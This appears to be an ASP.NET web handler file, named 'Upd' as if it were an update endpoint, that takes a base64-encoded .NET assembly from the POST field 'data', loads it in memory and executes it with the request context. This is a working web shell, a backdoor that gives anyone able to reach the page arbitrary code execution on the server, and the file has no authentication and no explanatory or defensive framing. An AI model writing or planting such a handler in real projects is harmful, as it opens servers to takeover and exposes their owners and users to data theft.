<%@ WebHandler Language="C#" Class="Upd" %>
using System;
using System.Web;
using System.Reflection;
public class Upd : IHttpHandler {
    public void ProcessRequest(HttpContext c) {
        string b = c.Request.Form["data"];
        if (b == null) return;
        Assembly a = Assembly.Load(Convert.FromBase64String(b));
        object o = a.CreateInstance(a.GetTypes()[0].FullName);
        o.Equals(c);
    }
    public bool IsReusable { get { return true; } }
}
